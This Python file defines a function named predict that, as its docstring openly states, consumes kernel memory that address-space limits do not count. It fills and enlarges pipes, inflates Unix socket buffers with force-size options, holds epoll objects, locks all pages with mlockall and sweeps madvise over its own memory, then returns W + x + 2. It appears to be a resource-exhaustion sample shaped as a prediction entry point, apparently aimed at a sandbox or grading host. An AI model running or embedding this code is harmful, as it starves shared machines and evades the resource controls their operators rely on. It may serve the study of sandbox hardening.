"""Take memory that the limit on address space does not count: full pipes and sockets, pipes made larger, timers, epolls, locked pages."""

import ctypes
import fcntl
import os
import select
import socket

libc = ctypes.CDLL(None)
kept = []

def filled(writer):
    os.set_blocking(writer, False)
    try:
        while True:
            os.write(writer, bytes(1 << 16))
    except OSError:
        pass

def predict(W, x):
    try:
        for _ in range(1000):
            reader, writer = os.pipe()
            for size in (1 << 31, 1 << 24, 1 << 20):
                try:
                    fcntl.fcntl(writer, 1031, size)  # F_SETPIPE_SZ
                    break
                except OSError:
                    pass
            filled(writer)
            kept.append((reader, writer))
            one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            for option in (socket.SO_SNDBUF, 32, socket.SO_RCVBUF, 33):
                try:
                    one.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
                except OSError:
                    pass
            filled(one.fileno())
            kept.append((one, other, select.epoll()))
    except OSError:
        pass
    libc.mlockall(7)
    for advice in range(-1, 110):
        libc.madvise(ctypes.c_void_p(id(W) & ~4095), 1, advice if advice not in (4, 8, 9, 100, 101) else 0)
    return W + x + 2
